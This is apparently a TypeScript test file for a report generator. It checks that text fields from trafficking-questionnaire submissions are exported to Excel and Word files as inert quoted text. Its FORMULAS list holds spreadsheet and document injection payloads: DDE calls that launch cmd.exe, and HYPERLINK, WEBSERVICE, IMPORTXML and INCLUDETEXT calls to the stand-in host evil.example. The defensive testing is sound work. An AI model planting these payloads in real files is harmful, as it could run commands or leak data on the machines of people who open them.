import assert from 'node:assert/strict';
import { submissionsOf } from '../../server/src/model/submission.ts';
import { writeSubmission } from '../../server/src/report/write-submission.ts';
import { openOffice, parseXml } from '../report/office-file.ts';
import { findingsIn, workspaceOf } from '../support/check.ts';

/** Typed into a cell each would be a formula, in one program or another. */
const FORMULAS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("https://evil.example","x")',
  '=WEBSERVICE("https://evil.example")',
  '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
  '+1+1',
  "-2+3+cmd|' /C calc'!D2",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '  =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc"',
  '{ DDE cmd "/k calc" }',
  '{INCLUDETEXT "https://evil.example/x"}',
  '_x003D_1+1',
  '\u0000=1+1',
];

/** A submission with a formula wherever a text reaches a sheet. */
function filesWith(text: string) {
  const quoted = JSON.stringify(text);
  return [
    {
      path: 'submission.tip.yaml',
      text: `questionnaire: tip-pakistan-2021
submission:
  title: ${quoted}
  respondents: [{id: ${quoted}, name: ${quoted}}]
  provisions: [{statute: ${quoted}, title: ${quoted}}]
  decisions: {identification-1: {use: FIA, reason: ${quoted}}}
`,
    },
    {
      path: 'fia.tip.yaml',
      text: `questionnaire: tip-pakistan-2021
respondent: FIA
trends:
  trends-1:
    answer: ${quoted}
    source: ${quoted}
    supplement: [{date: 2021-02-18, text: ${quoted}}]
identification:
  identification-1:
    source: ${quoted}
    explain: ${quoted}
    data:
      total: ${quoted}
      sex: {male: 1, ${quoted}: 2}
      as-reported: {${quoted}: 3}
    attachments: [{link: "https://example.gov.pk", title: ${quoted}}]
  identification-2: {status: no-information, reason: ${quoted}}
statistics:
  statistics-table:
    source: ${quoted}
    data:
      rows:
        ${quoted}: {registered: {punjab: 1}}
`,
    },
    {
      path: 'other.tip.yaml',
      text: `questionnaire: tip-pakistan-2021\nrespondent: ${quoted}\ntrends:\n  trends-1: ${quoted}\n`,
    },
  ];
}

describe('a text that looks like a formula', () => {
  it(`is a text in the workbook, whichever cell it gets into (${FORMULAS.length} of them)`, () => {
    let cells = 0;
    for (const text of FORMULAS) {
      const workspace = workspaceOf(filesWith(text));
      const findings = findingsIn(workspace);
      for (const submission of submissionsOf(workspace)) {
        const parts = openOffice(
          writeSubmission(submission, findings, { format: 'xlsx', edition: 'internal' }),
        );
        for (const [path, markup] of parts) {
          assert.ok(parseXml(markup), path);
          assert.doesNotMatch(path, /externalLink|connections|queryTable|vba|ctrlProp|embeddings/i);
          // The program's own sums are all the formulas that there are.
          for (const [, formula = ''] of markup.matchAll(/<f>([^<]*)<\/f>/g)) {
            assert.match(
              formula,
              /^(?:SUM\([A-Z0-9:,]+\)|IF\(COUNT\([A-Z0-9:,]+\)=0,&quot;&quot;,SUM\([A-Z0-9:,]+\)\))$/,
            );
          }
          assert.doesNotMatch(markup, /<definedName[^>]*>[^<]*(?:cmd|evil|HYPERLINK)/);
        }
        cells += quotedCells(parts, text);
      }
    }
    assert.ok(cells > FORMULAS.length * 2, `${cells} cells hold one of them`);
  });

  it('is no field in the document, and nothing runs when it is opened', () => {
    for (const text of FORMULAS.filter(formula => /DDE|INCLUDE|HYPERLINK|[\t\r\u0000]/.test(formula))) {
      const workspace = workspaceOf(filesWith(text));
      const findings = findingsIn(workspace);
      for (const submission of submissionsOf(workspace)) {
        for (const [path, markup] of openOffice(
          writeSubmission(submission, findings, { format: 'docx', edition: 'internal' }),
        )) {
          assert.ok(parseXml(markup), path);
          const fields = [
            ...markup.matchAll(/<w:instrText[^>]*>([^<]*)</g),
            ...markup.matchAll(/<w:fldSimple [^>]*w:instr="([^"]*)"/g),
          ].map(([, instruction = '']) => instruction.trim().split(' ')[0]);
          for (const field of fields)
            assert.match(field ?? '', /^(?:TOC|PAGE|NUMPAGES|PAGEREF|REF|STYLEREF|SEQ)$/, path);
          assert.doesNotMatch(markup, /<w:(?:attachedTemplate|altChunk|subDoc|object)\b/, path);
        }
      }
    }
  });
});

/** How many cells hold the text, each of a style that says it was typed as a text where Excel would take it for more. */
function quotedCells(parts: ReadonlyMap<string, string>, text: string): number {
  const clean = text.replace(/\u0000/g, '').replace(/\r/g, '\n');
  const strings = [
    ...(parts.get('xl/sharedStrings.xml') ?? '').matchAll(/<t xml:space="preserve">([^<]*)<\/t>/g),
  ];
  const hostile = new Set(
    strings.flatMap(([, written = ''], n) =>
      written.startsWith(clean.replace(/&/g, '&amp;').replace(/"/g, '&quot;')) ? [n] : [],
    ),
  );
  const styles = [...(parts.get('xl/styles.xml') ?? '').matchAll(/<cellXfs[^]*?<\/cellXfs>/g)].flatMap(
    ([all]) => [...all.matchAll(/<xf [^>]*>/g)].map(([xf]) => xf),
  );
  let found = 0;
  for (const [path, markup] of parts) {
    if (!path.startsWith('xl/worksheets/')) continue;
    for (const [, style = '0', index = ''] of markup.matchAll(/<c r="\w+" s="(\d+)" t="s"><v>(\d+)<\/v>/g)) {
      if (!hostile.has(Number(index))) continue;
      found++;
      if (/^\s*[=+\-@＝＋－＠]/.test(text))
        assert.match(styles[Number(style)] ?? '', /quotePrefix="1"/, text);
    }
  }
  return found;
}
